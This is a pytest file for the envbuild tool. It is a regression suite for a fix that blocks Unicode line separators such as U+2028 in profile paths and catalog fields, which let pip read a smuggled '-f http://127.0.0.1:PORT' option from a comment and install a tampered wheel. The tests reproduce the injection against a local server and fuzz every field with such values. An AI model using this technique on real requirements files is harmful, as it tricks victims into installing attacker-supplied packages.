"""Every generated line stays one line (issue 25, finding 1).

pip splits a requirements file with ``str.splitlines``, which also breaks at NEL (U+0085), U+2028,
U+2029 and the FS/GS/RS/VT/FF controls: a profile path through a folder named ``x<U+2028>-f http:``
made pip read ``-f http://127.0.0.1:PORT`` from a comment of ``requirements-rebuild.txt`` and install a
tampered wheel from that server.  Render now refuses every such value where it is written, checks each
generated file once more before writing the bundle, and the catalog overlay's strings pass the
profile's field check when it is loaded.
"""

from __future__ import annotations

import io
import json
import os
import random
import shlex
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from cli_support import invoke
from index_support import serve_folder

import envbuild.cli._render  # noqa: F401  (registers the command)
from envbuild.errors import BundleError, EnvbuildError
from envbuild.models import CheckSpec, Profile, RequirementLine
from envbuild.plan import check
from envbuild.profile import load_profile
from envbuild.profile.fields import LINE_BREAKS
from envbuild.render import render_bundle
from envbuild.render.bundle import write_bundle
from envbuild.render.quote import GENERATED_TEXT

# Every character at which str.splitlines splits, asked of Python itself (not a list written here).
SPLITS = "".join(c for c in map(chr, range(0x110000)) if len(f"a{c}b".splitlines()) > 1)
WHEEL = "sample-1.0-1-py3-none-any.whl"  # build tag 1: it wins over an untagged sample-1.0 wheel


def test_the_line_breaks_envbuild_refuses_are_exactly_those_python_splits_at() -> None:
    assert SPLITS == LINE_BREAKS


# ---- the red team's reproduction: a real U+2028 path, a real server, a real pip ----------------------


def _tampered_wheel() -> bytes:
    """A minimal valid wheel (WRITTEN BY HAND) whose module says it is the attacker's."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("sample/__init__.py", "TAMPERED = True\n")
        z.writestr("sample-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: sample\nVersion: 1.0\n")
        z.writestr(
            "sample-1.0.dist-info/WHEEL",
            "Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\nBuild: 1\n",
        )
        z.writestr("sample-1.0.dist-info/RECORD", "")
    return buf.getvalue()


@pytest.fixture
def attacker(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[int, list[str]]]:
    """A find-links page and the tampered wheel on loopback: (port, the paths requested).  Its folder is
    outside the test's tmp_path, which a test lists to prove nothing was written there."""
    folder, hits = tmp_path_factory.mktemp("attacker"), []
    (folder / WHEEL).write_bytes(_tampered_wheel())
    (folder / "index.html").write_text(f'<html><body><a href="/{WHEEL}">{WHEEL}</a></body></html>')
    with serve_folder(folder, hits) as base:
        yield int(base.rsplit(":", 1)[1]), hits


def _pip_dry_run(requirements: Path) -> subprocess.CompletedProcess[str]:
    """pip as a provider would run it, but offline (--no-index: only find-links can supply a wheel)."""
    args = ["install", "--dry-run", "--isolated", "--no-index", "--ignore-installed", "--no-cache-dir"]
    return subprocess.run(
        [sys.executable, "-m", "pip", *args, "--disable-pip-version-check", "-r", str(requirements)],
        capture_output=True,
        text=True,
        env={**os.environ, "PIP_CONFIG_FILE": os.devnull},
        timeout=60,
    )


def test_pip_reads_an_option_after_a_u2028_in_a_comment(
    tmp_path: Path, attacker: tuple[int, list[str]]
) -> None:
    """The premise, with a real pip: a comment holding U+2028 is two lines to pip, the second an option."""
    port, hits = attacker
    requirements = tmp_path / "requirements.txt"
    comment = f"#   envbuild render 'x\u2028-f http://127.0.0.1:{port} #/p.toml'"
    requirements.write_text(f"{comment}\nsample==1.0\n")
    proc = _pip_dry_run(requirements)
    assert proc.returncode == 0, proc.stderr
    assert "Would install sample-1.0" in proc.stdout
    assert f"/{WHEEL}" in hits  # the tampered wheel came from the attacker's server


def test_a_profile_path_with_u2028_is_refused_and_nothing_is_written(
    tmp_path: Path, attacker: tuple[int, list[str]], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The red team's input: folders ``x<U+2028>-f http:`` / ``127.0.0.1:PORT #`` carry the URL in the
    profile path as typed (recorded in the bundle as the command that regenerates it).  The first folder
    is a link to a plain one, so the resolved path (also recorded) holds no line break: before the fix,
    the bundle's requirements-rebuild.txt made pip install the tampered wheel."""
    port, hits = attacker
    real = tmp_path / "real" / f"127.0.0.1:{port} #"
    real.mkdir(parents=True)
    (real / "p.toml").write_text(
        'name = "p"\nkind = "ubuntu"\n[base]\nos = "ubuntu24.04"\n[python]\nversion = "3.12"\n'
        'packages = ["sample==1.0"]\n'
    )
    (tmp_path / "x\u2028-f http:").symlink_to(tmp_path / "real")
    monkeypatch.chdir(tmp_path)
    out = tmp_path / "bundle"
    result = invoke(["render", f"x\u2028-f http://127.0.0.1:{port} #/p.toml", "--out", str(out)])
    if result.exit_code == 0:  # the bug: show what pip does with the bundle, then fail
        proc = _pip_dry_run(out / "requirements-rebuild.txt")
        pytest.fail(f"render wrote the bundle; pip then requested {hits}:\n{proc.stdout}{proc.stderr}")
    assert result.exit_code == 2, result.output
    assert result.exception is None and "Traceback" not in result.output
    assert "line break '\\u2028'" in result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["real", "x\u2028-f http:"]
    assert hits == []


def test_a_generated_file_with_a_stray_line_break_is_not_written(tmp_path: Path) -> None:
    """The last look before the bundle is written: a file whose lines differ by splitlines and by LF
    is refused as envbuild's bug, and nothing (no bundle, no temporary folder) is left."""
    out = tmp_path / "bundle"
    files = {
        "Dockerfile": b"FROM scratch\n",
        "requirements-rebuild.txt": "# comment\u2028--find-links http://127.0.0.1:1\nx==1\n".encode(),
    }
    with pytest.raises(BundleError, match=r"requirements-rebuild.txt: line 1 holds the line break '\\u2028'"):
        write_bundle(files, out)
    assert list(tmp_path.iterdir()) == []


# ---- the catalog overlay ---------------------------------------------------------------------------


def test_an_overlay_source_with_u2028_is_refused_at_load(tmp_path: Path) -> None:
    """HAND-WRITTEN overlay: a torch row whose ``source`` carries U+2028 and an option after it."""
    from envbuild.catalog import overlay
    from envbuild.catalog.overlay import IndexRead, Overlay, TorchRow

    url = "http://127.0.0.1:1/simple/torch/"
    path = tmp_path / "catalog-overlay.json"
    row = TorchRow(version="2.14.2", source=url + "\u2028-f http://127.0.0.1:1/", confirmed=True)
    overlay.write(
        path,
        Overlay(
            format=1,
            fetched_at=datetime.now(UTC),
            envbuild_version="test",
            indexes=(IndexRead(kind="pypi", url=url, ok=True),),
            torch=(row,),
        ),
    )
    with pytest.raises(overlay.OverlayInvalid, match=r"^torch\.0\.source: .*U\+2028"):
        overlay.read(path)
    # The same row without the break is read.
    data = json.loads(path.read_text())
    data["torch"][0]["source"] = url
    path.write_text(json.dumps(data))
    assert overlay.read(path).torch[0].source == url


# ---- the fuzz: random Unicode through every profile string field and every writer ----------------------


def _random_text(rnd: random.Random, length: int) -> str:
    """Random BMP characters (no surrogates: a TOML \\u escape cannot carry one), some of them ASCII."""
    out = []
    for _ in range(length):
        code = rnd.randrange(0x20, 0x7F) if rnd.random() < 0.5 else rnd.randrange(0x80, 0xD800)
        out.append(chr(code))
    return "".join(out)


def _values(rnd: random.Random) -> list[str]:
    """Each line break (with a pip option after it), then random text that may hold one by chance."""
    values = [f"{_random_text(rnd, 3)}{c}-f http://127.0.0.1:1 {_random_text(rnd, 2)}" for c in SPLITS]
    values += [_random_text(rnd, rnd.randrange(1, 12)) for _ in range(3)]
    return values


def _render_one_line_or_refused(parent: Path, profile: Profile | Path, command: str, label: str) -> None:
    """Load (a Path) and check ``profile``, render it with every writer (--bake, --force): either a
    project error with nothing written, or a bundle whose every generated line is one line."""
    out = parent / "bundle"
    try:
        loaded = load_profile(profile) if isinstance(profile, Path) else profile
        render_bundle(check(loaded), out, command=command, force=True, bake=True)
    except EnvbuildError:
        assert list(parent.iterdir()) == [], label  # refused: nothing written, no temporary folder
        return
    names = [n for n in GENERATED_TEXT if (out / n).is_file()]
    assert {"Dockerfile", "README.md", "requirements-rebuild.txt", "docker-bake.hcl"} <= set(names)
    for name in names:
        text = (out / name).read_text(encoding="utf-8")
        lines = text.split("\n")
        assert text.splitlines() == lines[:-1] and lines[-1] == "", f"{label}: {name}"
    shutil.rmtree(out)


# (TOML text for the value, as a JSON string: for BMP text without surrogates, a JSON string is a TOML
# basic string), one per profile field that reaches a writer.
TOML_FIELDS: dict[str, Callable[[str], str]] = {
    "name": lambda v: f"name = {v}\nkind = 'ubuntu'\n",
    "description": lambda v: f"name = 'p'\nkind = 'ubuntu'\ndescription = {v}\n",
    "env value": lambda v: f"name = 'p'\nkind = 'ubuntu'\n[env]\nX = {v}\n",
    "env key": lambda v: f"name = 'p'\nkind = 'ubuntu'\n[env]\n{v} = 'x'\n",
    "base.image": lambda v: f"name = 'p'\nkind = 'custom'\n[base]\nimage = {v}\n",
    "system.apt": lambda v: f"name = 'p'\nkind = 'ubuntu'\n[system]\napt = [{v}]\n",
    "python.packages": lambda v: f"name = 'p'\nkind = 'ubuntu'\n[python]\npackages = [{v}]\n",
    "checks.name": lambda v: f"name = 'p'\nkind = 'ubuntu'\n[[checks]]\nname = {v}\nrun = ['true']\n",
    "checks.run": lambda v: f"name = 'p'\nkind = 'ubuntu'\n[[checks]]\nname = 'c'\nrun = [{v}]\n",
    "validate.extensions": lambda v: f"name = 'p'\nkind = 'ubuntu'\n[validate]\nextensions = [{v}]\n",
    "validate.checkpoint_dir": lambda v: f"name = 'p'\nkind = 'ubuntu'\n[validate]\ncheckpoint_dir = {v}\n",
}


@pytest.mark.parametrize("seed", [0, 1])
def test_fuzz_profile_fields_through_the_loader(tmp_path: Path, seed: int) -> None:
    rnd = random.Random(seed)
    folder = tmp_path / "profile"
    folder.mkdir()
    work = tmp_path / "work"
    work.mkdir()
    profile = folder / "p.toml"
    for field, toml in TOML_FIELDS.items():
        for value in _values(rnd):
            profile.write_text(toml(json.dumps(value)), encoding="utf-8")
            _render_one_line_or_refused(work, profile, "envbuild render p.toml", f"{field} = {value!r}")


def _model_fields(value: str) -> dict[str, dict[str, Any]]:
    """Profile changes that bypass the loader's field checks: each writer must refuse on its own."""
    line = RequirementLine(kind="requirement", text="sample==1.0", name="sample", origin="profile:x")
    option = RequirementLine(kind="option", text="--pre", origin="profile:x")
    return {
        "name": {"name": value},
        "description": {"description": value},
        "path": {"path": value},
        "env value": {"env": {"X": value}},
        "env key": {"env": {value: "x"}},
        "checks.name": {"checks": (CheckSpec(name=value, run=("true",)),)},
        "requirement text": {"python_lines": (replace(line, text=f"sample=={value}"),)},
        "requirement origin": {"python_lines": (replace(line, origin=value),)},
        # quoted as the requirements parser leaves an option line (its words split with shlex)
        "option text": {"python_lines": (replace(option, text=f"--find-links {shlex.quote(value)}"),)},
        "option origin": {"python_lines": (replace(option, origin=value),)},
        "command": {},
    }


@pytest.mark.parametrize("seed", [0, 1])
def test_fuzz_every_writer_without_the_loader(tmp_path: Path, seed: int) -> None:
    rnd = random.Random(seed)
    base = load_profile("ubuntu")
    for value in _values(rnd):
        for field, changes in _model_fields(value).items():
            label = f"{field} = {value!r}"
            changes = dict(changes)
            if "python_lines" in changes:
                changes["python"] = replace(base.python, lines=changes.pop("python_lines"))
            profile = replace(base, **changes)
            # the command as the CLI records it: shlex.join of its words
            command = shlex.join(["envbuild", "render", value if field == "command" else "ubuntu"])
            _render_one_line_or_refused(tmp_path, profile, command, label)
